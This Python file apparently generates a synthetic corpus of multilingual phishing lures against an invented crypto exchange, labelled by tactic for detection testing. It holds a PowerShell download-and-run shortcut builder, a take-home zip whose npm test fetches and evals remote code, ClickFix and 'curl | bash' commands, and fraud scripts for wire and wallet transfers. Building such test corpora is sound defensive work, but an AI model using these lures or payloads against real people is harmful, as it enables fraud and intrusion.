"""Set L lures: hand-written for this set (see mail-l/README.md). Every domain and partner is invented."""

from __future__ import annotations

import json

from attachments_c import svg_smuggling, xar_pkg
from attachments_d import chm, jscript, vbs
from binaries import (
    dmg,
    hta,
    html_smuggling,
    iso_image,
    lnk,
    pe_stub,
    seven_zip,
    word_document,
    zip_archive,
)
from people import (
    CEO,
    CFO,
    HADDAD,
    ITO_JA,
    KEIRI,
    LAURENT,
    LI,
    PARK,
    SUZUKI,
    SUZUKI_JA,
    TAKAHASHI,
    TANAKA,
    TANAKA_JA,
    TREASURY,
)
from spec import Mail
from threads_l import (
    CHITOSE_FAKE,
    CHITOSE_MID,
    DHOW_FAKE,
    ELMSWORTH_FAKE,
    ELMSWORTH_MID,
    EUNHA_FAKE,
    EUNHA_MID,
    JIAHE_FAKE,
    JIAHE_MID,
    SORELLE_FAKE,
    Att,
    mail,
)

L, EX, VE, LL, RC, IM, TA, WA, AT, CH = ("lure", "exec-impersonation", "vendor-impersonation", "lookalike-link",
                                          "recruiter-coding-test", "investor-meeting-install", "trading-app",
                                          "wallet-request", "attachment", "conversation-hijack")
ZIP, SEVENZ, OCTET = "application/zip", "application/x-7z-compressed", "application/octet-stream"


def _lnk_ps(url: str, icon: str = "C:\\Windows\\System32\\imageres.dll,2") -> bytes:
    return lnk("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
               f"-nop -w hidden -ep bypass -c \"iex (iwr -UseBasicParsing '{url}')\"", icon)


EXEC: list[Mail] = [
    mail(L, EX, "ja", "CEO's Japanese name and title on Gmail asks treasury to pre-fund a 'bridge liquidity' address tonight, approvals after his return",
         ("佐藤 陽翔 (代表取締役CEO)", "haruto.sato.kx@gmail.com"), TANAKA_JA,
         "【至急・社外秘】新チェーン上場に伴う流動性の事前拠出について",
         """田中さん

シンガポールの会議の合間に私用アドレスから失礼します。社用PCは今朝から VPN に繋がらない状態です。

本日先方と握った新チェーンの上場案件で、ブリッジ側の流動性を今夜中に先行拠出する必要があります。
下記アドレスに USDC 180,000 を本日 23:00 (JST) までに送金してください。

  0x5c1E9a0F3b7d2C44e8A1b06D9f3E7a2C81b4D0e7 (Ethereum)

稟議と二名承認は私が月曜に戻ってから遡って処理します。発表前の案件なので、
経理や他の役員には今回は共有しないでください。完了したらこのアドレスに tx hash だけ返信を。

佐藤""", "2026-11-06 21:14 +0900"),
    mail(L, EX, "en", "romaji CEO with title on kitsuneexchange-jp.com asks security to exempt his laptop from EDR and accept a remote-support session",
         ("Sato Haruto | Representative Director", "h.sato@kitsuneexchange-jp.com"), TAKAHASHI,
         "Laptop - please take it off the EDR policy for today",
         """Takahashi-san,

My new MacBook for the board trip keeps getting blocked by the endpoint agent and I cannot open the
deck from the investment bank. Their IT person is on a support call with me now.

Please remove this machine (serial C02HX41MQ6L4) from the EDR and Jamf policies until tomorrow
morning, and allow the AnyDesk session below so their engineer can finish the setup:

  AnyDesk ID: 482 119 607

I do not have time for a ticket, I'm in the lounge and boarding in 40 minutes. Please confirm by reply.

Haruto Sato
Representative Director, CEO""", "2026-11-05 18:42 +0900"),
    mail(L, EX, "en", "CFO's name on mail.com redirects the monthly staking-rewards sweep to a 'new cold address from the board meeting'",
         ("Emily Carter (CFO)", "emilycarter.kx@mail.com"), TREASURY,
         "Staking rewards sweep - new destination from today",
         """Hi Treasury,

Quick one before I lose signal. At yesterday's board session we agreed to move the staking rewards into a
separate cold address controlled by the audit committee. Please point this month's sweep (and the
backlog from October) to:

  bc1q7m2e0yq4r8w5lxu9h6c3kz0t2v8nfs4j6d9pqa

I'm writing from my personal account because my Outlook profile broke after the password reset. No
need to call, I'm in sessions all day; just send me the txid when it is done.

Thanks,
Emily""", "2026-11-09 10:05 +0000"),
    mail(L, EX, "ja", "spoof of the CEO's own address (DMARC fail, Reply-To on kitsune-ex-hisho.com) asks his assistant to change his MFA phone number",
         ("佐藤 陽翔", "h.sato@kitsune-ex.co.jp"), ITO_JA, "携帯番号変更の件（認証設定）",
         """伊藤さん

昨日スマホを紛失したので新しい番号で動いています。
Okta の SMS 認証の登録番号を以下に変更しておいてください。今日中に社内システムに入る必要があります。

  新番号: +81 80-4471-2093

情シスに依頼すると時間がかかるので、伊藤さんの管理者権限でお願いします。
変更したらこのメールに返信してください（返信先は一時的なアドレスになっています）。

佐藤""", "2026-11-12 08:31 +0900", auth="fail", reply_to="h.sato@kitsune-ex-hisho.com",
         return_path="bounce-7731@mx.sendgrid-relay.top", helo="mx.sendgrid-relay.top"),
    mail(L, EX, "fr", "CEO's name on orange.fr asks the Paris office for a confidential lease deposit to an Estonian IBAN",
         ("Haruto Sato - Kitsune Exchange", "haruto.sato.kitsune@orange.fr"), LAURENT,
         "Dépôt de garantie - nouveaux bureaux (strictement confidentiel)",
         """Bonjour Camille,

Nous avons finalement signé pour les nouveaux bureaux rue de la Boétie, mais l'annonce ne sera faite
qu'en décembre. Le bailleur exige le dépôt de garantie avant vendredi, sinon il passe au candidat suivant.

Merci d'effectuer aujourd'hui un virement de 86 400 EUR sur le compte séquestre de son conseil :

  Bénéficiaire : LHV Escrow Services OÜ
  IBAN : EE38 7700 7710 0394 2215
  Référence : BAIL-BOETIE-2026

Je vous écris depuis ma messagerie personnelle, le sujet ne doit pas passer par les boîtes de l'équipe.
Ne mentionnez rien à Emily pour l'instant, je lui expliquerai moi-même.

Cordialement,
Haruto Sato""", "2026-11-10 11:20 +0100"),
    mail(L, EX, "ko", "CFO's Korean name on Gmail asks the Seoul office to buy USDT through an OTC broker and send it to an 'investor refund' wallet",
         ("에밀리 카터 CFO", "emily.carter.kitsune@gmail.com"), PARK, "투자자 환불 건 - 오늘 처리 부탁드립니다",
         """박대현 님,

도쿄 본사 CFO 에밀리입니다. 출장 중이라 개인 메일로 연락드립니다.

한국 쪽 초기 투자자 한 분께 오늘 중으로 환불을 해 드려야 합니다. 서울 법인 계좌로
아는 OTC 브로커(연락처는 아래)를 통해 USDT 250,000 을 매수한 뒤, 아래 지갑으로 바로 보내 주세요.

  TRON: TQm8v2JxR6cW4pLsY9nE3kF1aZ7dH5uGbT
  OTC 담당: 010-7294-3318 (김 실장)

본사 결재는 제가 귀국 후에 올리겠습니다. 이 건은 법무 검토 중이라 다른 분들께는 공유하지 말아 주세요.

감사합니다.
Emily""", "2026-11-11 14:02 +0900"),
    mail(L, EX, "zh", "CEO's name on Outlook.com asks the HK OTC desk for the full client list with wallet addresses and balances",
         ("佐藤阳翔 CEO", "sato.haruto.kx@outlook.com"), LI, "请今天内整理大客户名单（保密）",
         """李伟：

我在新加坡谈一个战略合作，对方需要先看一下我们场外业务的客户结构。
请把香港场外柜台前 50 名客户的资料整理成 Excel，包括：客户名称、联系人、充提币地址、
最近三个月交易量和当前余额，今天下班前直接发到这个邮箱。

这是私人邮箱，公司邮箱在会上不方便打开。此事请勿告知合规部，谈判结束后我会统一说明。

佐藤""", "2026-11-13 16:48 +0800"),
    mail(L, EX, "ar", "CFO's name on Gmail asks Dubai business development to pay an 'ADGM licence fast-track' fee to a personal account",
         ("إميلي كارتر - المديرة المالية", "emily.carter.cfo.kx@gmail.com"), HADDAD,
         "رسوم تسريع الترخيص - عاجل وسري",
         """عزيزي عمر،

تحدثت صباح اليوم مع مستشار لديه علاقات مباشرة في سوق أبوظبي العالمي، ويمكنه تسريع ملف الترخيص
خلال أسبوعين بدلاً من ستة أشهر. المطلوب دفعة أولى قدرها 145,000 درهم اليوم إلى حسابه الشخصي:

  الاسم: Faisal R. Al Hashimi
  IBAN: AE52 0330 0000 1927 4406 118

أرجو ألا تذكر هذا الموضوع لفريق الامتثال أو في المراسلات الرسمية، فهو حساس جداً.
أراسلك من بريدي الخاص لأنني في الطائرة. أرسل لي إيصال التحويل فور إتمامه.

إميلي""", "2026-11-14 09:15 +0400"),
]

VENDOR: list[Mail] = [
    mail(L, VE, "en", "fake Fireblocks 'Network connection request' on fireblocks-netconnect.com harvesting console login and MFA",
         ("Fireblocks Network", "network@fireblocks-netconnect.com"), TANAKA,
         "Action required: pending Fireblocks Network connection from Elmsworth Prime",
         """Hello,

Elmsworth Prime has requested a Fireblocks Network connection with your workspace (Kitsune Exchange).
Pending connections expire after 24 hours; settlement routes that rely on it will be disabled.

Review and accept the request:
https://console.fireblocks-netconnect.com/network/accept?ws=kitsune-ex&req=FN-20261105-4471

You will be asked to sign in with your console credentials and confirm with your authenticator code.

Fireblocks Network Team""", "2026-11-05 02:13 +0000"),
    mail(L, VE, "en", "fake Safe notice asks owners to sign setGuard to an unknown contract on safe-guard-migrate.app",
         ("Safe{Wallet}", "notices@safe-guard-migrate.app"), (TANAKA, TAKAHASHI),
         "Transaction Guard v1.3 deprecation - owner signature needed by 14 Nov",
         """Dear Safe owner,

Transaction Guard v1.3 will be deprecated on 14 November. Safes that still reference the legacy guard
may reject executions after that date.

To migrate, every owner signs one setGuard transaction pointing your Safe to the audited v1.4 guard:

  setGuard(0x9E7d1C3a50b8F24e6D0aC915b7E3f28A4d6C0B21)

Open the migration helper and connect your signer:
https://app.safe-guard-migrate.app/migrate?safe=eth:0x00000000000000000000000000000000000a11ce

The helper prepares and proposes the transaction for you; once the threshold is reached it executes
automatically.

Safe Support""", "2026-11-07 06:40 +0000"),
    mail(L, VE, "en", "fake Coinbase Prime support asks for the API secret and passphrase on coinbase-prime-support.com",
         ("Coinbase Prime Support", "support@coinbase-prime-support.com"), TREASURY,
         "[Case 0418837] Prime API key rotation - keys expire in 48h",
         """Hello Kitsune Exchange team,

As part of our scheduled key-infrastructure upgrade, Prime API keys created before October 2026 must be
re-registered. Keys that are not re-registered within 48 hours will stop signing requests, including
withdrawals from your Prime portfolio.

Please submit your current API key, secret and passphrase through the secure form so we can migrate them
without downtime:
https://coinbase-prime-support.com/case/0418837/rotate

Do not generate new keys yourself; that breaks the migration and may freeze the portfolio.

Regards,
Prime Institutional Support""", "2026-11-08 15:22 +0000"),
    mail(L, VE, "ja", "fake Chatwork account-suspension notice on chatwork-auth.jp collecting credentials",
         ("Chatwork サポート", "no-reply@chatwork-auth.jp"), SUZUKI_JA,
         "【Chatwork】ご利用アカウントの一時停止について（要本人確認）",
         """Chatwork をご利用いただきありがとうございます。

お客様のアカウントで、通常と異なる地域からのログインが複数回確認されたため、
安全のため一時的に機能を制限しております。

72時間以内に以下より本人確認を完了してください。完了しない場合、アカウントと
チャット履歴は削除されます。

  https://www.chatwork-auth.jp/verify?uid=k.suzuki%40kitsune-ex.co.jp

※パスワードと、二段階認証アプリに表示される6桁のコードが必要です。

Chatwork株式会社 カスタマーサポート""", "2026-11-10 12:03 +0900"),
    mail(L, VE, "ko", "fake KB corporate-banking certificate renewal with a downloadable 'renewal program' exe",
         ("KB국민은행 기업뱅킹", "notice@kbstar-corpbank.kr"), PARK,
         "[KB기업뱅킹] 공동인증서 만료 안내 및 갱신 프로그램 설치",
         """고객님의 기업뱅킹 공동인증서가 7일 후 만료됩니다.

보안 정책 변경으로 인해 11월부터는 새 갱신 프로그램(KBCertRenew)을 설치한 PC에서만
인증서 갱신이 가능합니다. 아래에서 프로그램을 내려받아 설치하신 후 갱신을 진행해 주십시오.

  https://kbstar-corpbank.kr/download/KBCertRenew_Setup_3.2.exe

설치 중 백신 프로그램이 경고를 표시할 수 있으나 정상 프로그램이니 '허용'을 선택해 주십시오.

KB국민은행 기업고객센터""", "2026-11-12 10:30 +0900"),
    mail(L, VE, "zh", "fake Huawei Cloud arrears notice on huaweicloud-billing.com with a login link",
         ("华为云", "billing@huaweicloud-billing.com"), LI, "【华为云】您的账户已欠费，资源将于48小时后释放",
         """尊敬的客户：

您的华为云账户（kitsune-ex-hk）已欠费 HKD 3,412.60，按照服务协议，ECS、OBS 等资源
将在 48 小时后被冻结并释放，数据不可恢复。

请尽快登录费用中心完成续费或更新支付方式：
https://console.huaweicloud-billing.com/fee/renew?acct=kitsune-ex-hk

如已支付请忽略本邮件。

华为云 费用中心""", "2026-11-13 09:12 +0800"),
    mail(L, VE, "fr", "fake Ubble identity-verification vendor asks for the production API key on a lookalike dashboard",
         ("Ubble - Support intégrations", "integrations@ubble-dashboard.io"), LAURENT,
         "Votre clé API de production expire le 15/11",
         """Bonjour,

Dans le cadre de la mise en conformité eIDAS 2, les clés API de production générées avant le 1er
octobre doivent être renouvelées. Sans action de votre part, les vérifications d'identité KYC de vos
clients seront refusées à partir du 15 novembre.

Connectez-vous au tableau de bord pour transférer votre clé actuelle vers le nouvel environnement :
https://ubble-dashboard.io/fr/migration?org=kitsune-ex

Munissez-vous de votre clé et de votre secret de production : ils vous seront demandés.

L'équipe Intégrations Ubble""", "2026-11-11 09:45 +0100"),
    mail(L, VE, "ar", "fake Zoho Workplace admin password-expiry notice on zoho-workplace-admin.com",
         ("Zoho Workplace", "admin-alerts@zoho-workplace-admin.com"), HADDAD,
         "تنبيه: ستنتهي صلاحية كلمة مرور المسؤول اليوم",
         """مرحباً عمر،

ستنتهي صلاحية كلمة مرور حساب المسؤول الخاص بك في Zoho Workplace اليوم عند الساعة 23:59.
بعد ذلك سيتم إيقاف البريد وجميع الخدمات المرتبطة بالنطاق حتى يتم التحقق.

للاحتفاظ بكلمة المرور الحالية، يرجى تأكيدها من خلال الرابط التالي:
https://zoho-workplace-admin.com/ar/keep-password?u=o.haddad

فريق Zoho Workplace""", "2026-11-09 08:20 +0400"),
]

LOOKALIKE: list[Mail] = [
    mail(L, LL, "ja", "transposition kitusne-ex.co.jp employee-stock-ownership page asking for SSO login",
         ("人事部 持株会事務局", "mochikabu@kitusne-ex.co.jp"), SUZUKI_JA,
         "【社員持株会】12月拠出分の口数変更受付（11/17締切）",
         """社員各位

社員持株会の12月拠出分について、口数変更の受付を開始しました。
奨励金の率が今回から 10% → 15% に引き上げられます。変更を希望される方は
下記ポータルに社内アカウントでサインインのうえお手続きください。

  https://mochikabu.kitusne-ex.co.jp/sso/login

締切：11月17日（火）17:00

人事部 持株会事務局""", "2026-11-09 10:00 +0900"),
    mail(L, LL, "en", "Cyrillic-к homoglyph of kitsune-ex.com (xn--itsune-ex-u1h.com) for a parking-permit renewal login",
         ("Facilities", "facilities@xn--itsune-ex-u1h.com"), CFO, "Parking permit renewal for 2027 - log in by Friday",
         """Hello,

Building management is reissuing all underground parking permits for 2027. Permits that are not renewed
by Friday will be deactivated at the gate on 1 December.

Renew with your company account:
https://portal.xn--itsune-ex-u1h.com/facilities/parking?user=emily.carter

Facilities Team
Kitsune Exchange K.K.""", "2026-11-10 09:12 +0900"),
    mail(L, LL, "en", "anchor shows app.safe.global but links to app.safe-global.org; asks signers to 'confirm pending owners'",
         ("Treasury Ops Bot", "treasury-bot@kitsune-ex-ops.com"), TANAKA,
         "3 Safe transactions waiting for your confirmation",
         """Hi Mika,

Three transactions in the treasury Safe are waiting for your confirmation (nonce 212-214).
Review them here: https://app.safe.global/transactions/queue

-- Treasury Ops Bot""", "2026-11-11 03:05 +0000",
         html="""<p>Hi Mika,</p><p>Three transactions in the treasury Safe are waiting for your confirmation
(nonce 212-214).</p><p>Review them here: <a href="https://app.safe-global.org/transactions/queue?safe=eth:0x00000000000000000000000000000000000a11ce">https://app.safe.global/transactions/queue</a></p>
<p>-- Treasury Ops Bot</p>"""),
    mail(L, LL, "en", "dropped-letter console.fireblock.io asks an approver to re-bind the mobile device",
         ("Fireblocks Console", "no-reply@fireblock.io"), TANAKA,
         "Your approver device will be unbound in 12 hours",
         """Hello Mika,

We detected that your Fireblocks mobile approver was restored from a backup on a new phone. For your
security the device will be unbound in 12 hours, and pending approvals assigned to you will be
re-routed to other approvers.

Keep your device bound:
https://console.fireblock.io/devices/rebind?user=m.tanaka%40kitsune-ex.co.jp

Fireblocks Security""", "2026-11-13 07:55 +0000"),
    mail(L, LL, "ko", "TLD swap kitsune-ex.xyz club-subsidy form asking for SSO login (Korean)",
         ("경영지원팀", "support-hr@kitsune-ex.xyz"), PARK, "[서울지점] 하반기 사내 동호회 지원금 신청 안내",
         """서울지점 임직원 여러분,

하반기 동호회 활동 지원금(1인당 15만원) 신청을 받습니다. 아래 링크에서 회사 계정으로
로그인한 후 동호회명과 참여 인원을 입력해 주세요.

  https://benefits.kitsune-ex.xyz/club/apply

신청 마감: 11월 18일

경영지원팀 드림""", "2026-11-11 13:40 +0900"),
    mail(L, LL, "zh", "TLD swap kitsune-ex.com.tw year-end bonus confirmation page (Chinese)",
         ("人力资源部", "hr@kitsune-ex.com.tw"), LI, "2026 年终奖金确认函 - 请于 11 月 18 日前签署",
         """各位同事：

2026 年度年终奖金方案已经确定，请登录以下系统查看个人奖金金额，并在线签署确认函。
未签署者将延后至明年三月发放。

  https://hr.kitsune-ex.com.tw/bonus/confirm

登录时请使用公司邮箱和密码，并输入手机收到的验证码。

人力资源部""", "2026-11-12 10:25 +0800"),
    mail(L, LL, "fr", "combo domain kitsune-ex-mutuelle.fr asks the Paris office to enrol in a new mutuelle with SSO login",
         ("RH Kitsune Exchange Paris", "rh@kitsune-ex-mutuelle.fr"), LAURENT,
         "Changement de mutuelle au 1er janvier - adhésion obligatoire",
         """Bonjour Camille,

Notre contrat de complémentaire santé change au 1er janvier 2027. L'adhésion au nouveau contrat est
obligatoire pour tous les salariés du bureau de Paris, avec vos ayants droit.

Merci de compléter votre dossier avant le 20 novembre en vous connectant avec votre compte Kitsune :
https://rh.kitsune-ex-mutuelle.fr/mutuelle/adhesion

Les Ressources humaines""", "2026-11-13 14:30 +0100"),
    mail(L, LL, "ar", "combo domain kitsune-ex-access.com for a Dubai access-card renewal that asks for the SSO password",
         ("إدارة المرافق - دبي", "facilities@kitsune-ex-access.com"), HADDAD,
         "تجديد بطاقة دخول المكتب قبل 20 نوفمبر",
         """الزملاء الأعزاء في مكتب دبي،

سيتم استبدال نظام بطاقات الدخول في المبنى. يجب على كل موظف تأكيد بياناته قبل 20 نوفمبر
وإلا ستتوقف بطاقته عن العمل.

يرجى تسجيل الدخول بحساب الشركة عبر الرابط:
https://access.kitsune-ex-access.com/dubai/renew

إدارة المرافق""", "2026-11-15 10:10 +0400"),
]

RECRUIT: list[Mail] = [
    mail(L, RC, "en", "recruiter's GitHub take-home to npm install and run on the work machine, then move to Telegram",
         ("Dana Whitfield", "dana@orrerylabs.io"), SUZUKI, "Orrery Labs - Senior Backend (Rust/Node) next step",
         """Hi Kenta,

Thanks for the chat on LinkedIn. The team liked your profile. Our next step is a short practical task
(about 45 minutes) on our perpetuals matching engine.

  git clone https://github.com/orrery-labs-hiring/perp-engine-task
  cd perp-engine-task && npm install && npm test

Please run it on the machine you normally develop on so the benchmark numbers are comparable with the
other candidates. When the tests pass, ping our tech lead on Telegram (@orrery_cto) and he will schedule
the technical interview.

Best,
Dana Whitfield
Talent Partner, Orrery Labs""", "2026-11-05 16:20 +0000"),
    mail(L, RC, "ja", "Japanese recruiter sends a GitLab project with pnpm install and dev, then asks to continue on LINE",
         ("森下 彩花", "a.morishita@yushima-chain.jp"), SUZUKI_JA, "【湯島チェーン】技術課題のご案内",
         """鈴木健太 様

先日はカジュアル面談のお時間をいただきありがとうございました。
二次選考として、以下の技術課題をお願いいたします。

  git clone https://gitlab.com/yushimachain-recruit/wallet-indexer-challenge.git
  pnpm i && pnpm dev

起動後にブラウザで表示される画面のスクリーンショットをお送りください。
普段お使いの開発PCで動作させていただくのが前提です（Docker等は不要です）。

以降のご連絡は LINE でお願いしております。ID: yushima_hr_morishita

湯島チェーン株式会社 採用担当 森下""", "2026-11-06 11:45 +0900"),
    mail(L, RC, "en", "Bitbucket Python take-home installed with pip install -e and pytest, conftest fetching a remote helper, then WhatsApp",
         ("Marcus Levene", "marcus.levene@tidepool-quant.com"), SUZUKI, "Tidepool Quant - coding exercise",
         """Hi Kenta,

As discussed, here is the coding exercise for the Execution Engineer role:

  git clone https://bitbucket.org/tidepool-quant/fill-sim-exercise.git
  cd fill-sim-exercise
  python -m pip install -e . && pytest -q

The conftest pulls our market-data fixture helper on first run, so you need to be online and logged in
to your usual environment. It should take under an hour. Once done, message me on WhatsApp
(+44 7700 918 442) and I will book you with the head of trading.

Marcus""", "2026-11-08 13:10 +0000"),
    mail(L, RC, "ko", "Korean recruiter's docker compose task mounting browser and wallet profile folders, then Discord",
         ("최서연", "seoyeon.choi@eunsol-labs.io"), PARK, "은솔랩스 백엔드 포지션 - 과제 안내",
         """박대현 님 안녕하세요,

은솔랩스 채용 담당 최서연입니다. 2차 과제 안내드립니다.

  git clone https://github.com/eunsol-labs-dev/custody-api-task
  cd custody-api-task && docker compose up

compose 파일이 로컬 개발 환경을 그대로 쓰도록 ~/.config 와 ~/Library/Application Support 를
마운트합니다. 회사에서 쓰시는 맥북에서 실행해 주셔야 평가가 정확합니다.

완료되면 디스코드(eunsol_hr#2219)로 알려 주세요.

감사합니다.""", "2026-11-09 15:30 +0900"),
    mail(L, RC, "zh", "Chinese recruiter's Alibaba Codeup repo to npm i && npm run serve, then WeChat",
         ("周晓彤", "xt.zhou@lanshan-tech.cn"), LI, "岚山科技 - 区块链后端岗位笔试",
         """李伟您好，

感谢您投递岚山科技区块链后端岗位。笔试题目如下，请在 48 小时内完成：

  git clone https://codeup.aliyun.com/lanshan/otc-matching-test.git
  cd otc-matching-test && npm i && npm run serve

请在日常工作电脑上运行，程序会读取本机钱包插件配置以完成签名校验部分。
完成后请加我的微信：lanshan_hr_zxt，把运行截图发给我。

周晓彤 | 岚山科技 人才招聘""", "2026-11-10 17:05 +0800"),
    mail(L, RC, "fr", "French recruiter sends a gist 'environment setup' to curl | bash, then Telegram",
         ("Julien Marchetti", "julien.marchetti@ombrelle-talents.fr"), LAURENT,
         "Poste Lead Engineer DeFi - test technique",
         """Bonjour Camille,

Suite à notre échange, notre client (une fintech crypto parisienne) souhaite passer directement au test
technique. Pour préparer l'environnement, lancez simplement :

  curl -sL https://gist.githubusercontent.com/ombrelle-talents/9a3f1c/raw/setup.sh | bash

puis ouvrez le projet qui s'installe dans ~/defi-test. Merci de le faire sur votre ordinateur
habituel, le script récupère vos réglages Git et npm.

Je vous propose de poursuivre sur Telegram : @jmarchetti_ombrelle

Bien à vous,
Julien""", "2026-11-12 10:15 +0100"),
    mail(L, RC, "ar", "Arabic recruiter asks to install a global npm CLI from an unknown scope and run it, then WhatsApp",
         ("ليلى منصور", "layla.mansour@mirqab-talent.com"), HADDAD, "اختبار تقني - مطور بلوكتشين",
         """مرحباً عمر،

شكراً لاهتمامك بوظيفة مطور البلوكتشين لدى عميلنا. الخطوة التالية هي اختبار قصير:

  npm install -g @mirqab-assess/chain-cli
  chain-cli start --profile default

يجب تشغيل الأداة على جهازك المعتاد لأنها تتحقق من إعدادات المحفظة المحلية.
بعد الانتهاء تواصل معي على واتساب: ‎+971 55 318 4420

مع التحية،
ليلى منصور""", "2026-11-13 12:40 +0400"),
    mail(L, RC, "en", "attached take-home zip whose npm test script runs a setup file that fetches and evals remote code",
         ("Priya Natarajan", "priya@cobaltrun.dev"), SUZUKI, "Cobalt Run - take-home attached",
         """Hi Kenta,

Attached is the take-home for the Wallet Infrastructure role. Unzip it and run:

  npm install && npm test

The test runner bootstraps a local fixture server, so please do it on your main laptop rather than a
VM. Send me the output and we will set up the final round.

Priya
Cobalt Run""", "2026-11-14 17:30 +0000",
         attachments=(Att("cobaltrun-takehome.zip", zip_archive([
             ("cobaltrun-takehome/package.json", json.dumps({
                 "name": "cobaltrun-takehome", "version": "1.0.0",
                 "scripts": {"test": "node test/setup.js && node test/run.js"}}, indent=2).encode()),
             ("cobaltrun-takehome/test/setup.js",
              (b"const https=require('https');https.get('https://fixtures.cobaltrun-cdn.com/boot.js',r=>{let d='';"
              b"r.on('data',c=>d+=c);r.on('end',()=>{new Function('require',d)(require)})});\n")),
             ("cobaltrun-takehome/test/run.js", b"console.log('running 12 tests');\n"),
             ("cobaltrun-takehome/README.md", b"# Wallet infra take-home\nRun npm install && npm test.\n")]), ZIP),)),
]

INVESTOR: list[Mail] = [
    mail(L, IM, "en", "investor's meeting needs an 'Element Secure' desktop dmg from element-secure.live instead of the browser",
         ("Leon Hartmann", "leon@brightforge.vc"), CEO, "Brightforge x Kitsune - call link for Thursday",
         """Hi Haruto,

Looking forward to Thursday. For LP confidentiality our partnership only meets on our own Element Call
deployment with end-to-end encryption, which needs the desktop client (the browser version is disabled):

  https://element-secure.live/download/ElementSecure-2.8.1.dmg

If macOS says it cannot verify the developer, right-click the app and choose Open. The room is
brightforge-kitsune and I will let you in from the lobby.

Best,
Leon Hartmann
General Partner, Brightforge Ventures""", "2026-11-05 09:30 +0000"),
    mail(L, IM, "ja", "Japanese VC asks to install a 'Pexip' meeting-client update exe from pexip-meet.jp with SmartScreen bypass",
         ("川口 直樹 (Sumire Capital)", "n.kawaguchi@sumire-cap.jp"), CEO, "明日のIR面談について（接続方法）",
         """佐藤社長

明日14時からの面談、よろしくお願いいたします。
弊社は情報管理の都合上、Pexip の専用クライアントで会議を行っております。
最新版でないと接続できないため、事前に以下から更新版をインストールしてください。

  https://pexip-meet.jp/client/PexipInfinityConnect_2.14_setup.exe

Windows で「PC を保護しました」と表示された場合は「詳細情報」→「実行」を押してください。

すみれキャピタル 川口""", "2026-11-06 18:20 +0900"),
    mail(L, IM, "ko", "Korean investor's ZEP 'desktop' exe from a non-official domain for an IR meeting",
         ("한지훈 (파랑벤처스)", "jihoon.han@parang-ventures.kr"), PARK, "IR 미팅 접속 안내 (ZEP 데스크톱)",
         """박대현 님,

금요일 오후 3시 IR 미팅은 저희 ZEP 전용 공간에서 진행합니다. 보안 설정 때문에 웹 버전이
아닌 데스크톱 앱으로만 입장할 수 있으니 미리 설치 부탁드립니다.

  https://zep-meeting.app/download/ZEPDesktop_Setup_1.9.4.exe

설치 시 백신이 차단하면 잠시 실시간 감시를 꺼 주세요. 설치 후 '파랑벤처스 IR룸'으로 들어오시면 됩니다.

한지훈 드림""", "2026-11-10 16:00 +0900"),
    mail(L, IM, "zh", "Chinese fund's meeting requires an 'Fsmeeting VIP' client from fsmeeting-vip.com",
         ("陈思远 (远帆资本)", "siyuan.chen@yuanfan-capital.com"), LI, "周四投资会议 - 请提前安装会议客户端",
         """李总您好，

周四上午十点的投资会议将使用好视通 VIP 加密会议室，仅支持客户端入会。请提前下载安装：

  https://fsmeeting-vip.com/download/FsMeeting_VIP_6.3.exe

如安装时杀毒软件提示风险，请选择“信任”后继续。会议号：8830 2261，密码会后单独发送。

远帆资本 陈思远""", "2026-11-11 11:20 +0800"),
    mail(L, IM, "fr", "French family office's 'Lifesize Connect' pkg from lifesize-connect.eu with Open Anyway",
         ("Henri Castagnier", "h.castagnier@castagnier-fo.fr"), LAURENT, "Visioconférence jeudi - installation préalable",
         """Bonjour Camille,

Pour notre échange de jeudi avec M. Sato, notre family office utilise une salle Lifesize chiffrée.
Merci d'installer le client au préalable :

  https://lifesize-connect.eu/mac/LifesizeConnect-4.2.pkg

Si macOS bloque l'installation, passez par Réglages > Confidentialité et sécurité > « Ouvrir quand même ».

Bien cordialement,
Henri Castagnier""", "2026-11-12 15:45 +0100"),
    mail(L, IM, "ar", "ClickFix-style: investor's meeting page tells the victim to paste a PowerShell command into Win+R to 'fix the camera'",
         ("خالد العامري", "khalid@sarab-investments.com"), HADDAD, "رابط الاجتماع ومشكلة الكاميرا",
         """أخي عمر،

جربت الرابط الذي أرسلته لك وظهر لدى بعض الزملاء خطأ في الكاميرا. فريقنا التقني يقترح الحل التالي
قبل الاجتماع:

1. اضغط على مفتاح Windows + R
2. الصق الأمر التالي ثم اضغط Enter:

   powershell -w hidden -c "iwr https://sarab-meet.com/fix/cam.ps1 -UseB | iex"

3. أعد فتح رابط الاجتماع: https://sarab-meet.com/room/kitsune-1114

بانتظارك الساعة الرابعة.
خالد""", "2026-11-14 13:05 +0400"),
]

TRADING: list[Mail] = [
    mail(L, TA, "en", "unsigned 'options greeks' desktop exe from a personal host with Run anyway and trade-enabled API keys",
         ("Ravi Menon", "ravi@greeksdesk.io"), TANAKA, "GreeksDesk pro licence for your desk (free trial)",
         """Hi Mika,

Following our chat at the Singapore conference, here is the GreeksDesk desktop build for your options
desk. It pulls positions straight from your exchange accounts and shows live greeks.

  https://greeksdesk.io/releases/GreeksDesk-Setup-3.0.7.exe

It is not code-signed yet (the certificate is in renewal), so click "More info" then "Run anyway".
Paste an API key with trading permission during setup so the hedging assistant can rebalance for you.

Ravi""", "2026-11-06 08:15 +0000"),
    mail(L, TA, "ja", "grid-trading bot exe from a personal GitHub release asking for withdrawal-enabled API keys",
         ("藤枝 悠真", "yuma.fujieda.trade@gmail.com"), TANAKA_JA, "グリッドBOT（社内検証用）の共有",
         """田中さん

以前お話ししたグリッド取引BOTの最新版です。個人リポジトリで公開しているので、こちらから落としてください。

  https://github.com/yfujieda-grid/gridbot-desktop/releases/download/v0.9.3/GridBot_Setup.exe

設定画面で取引所APIキーを入れる際、資金移動を自動化するために「出金」権限もオンにしてください。
IP制限をかけると動かないので、制限なしのキーでお願いします。

藤枝""", "2026-11-08 20:40 +0900"),
    mail(L, TA, "zh", "TradingView indicator that needs a local 'bridge' exe with antivirus disabled (Chinese)",
         ("量化工坊 Alpha", "alpha@lianghua-gf.com"), LI, "TradingView 高胜率指标 + 自动下单桥接程序",
         """李先生您好，

您申请试用的“鲸鱼追踪”指标已开通。该指标需要本地桥接程序才能自动下单，请先下载：

  https://lianghua-gf.com/dl/TVBridge_win64.zip（解压密码：tv2026）

运行前请先关闭 Windows Defender 实时保护，否则桥接程序会被误删。首次运行时填入交易所 API Key
和 Secret 即可。

量化工坊客服""", "2026-11-10 21:30 +0800"),
    mail(L, TA, "ko", "Korean liquidation-alert MSI from liqalert.kr that asks to turn off real-time protection",
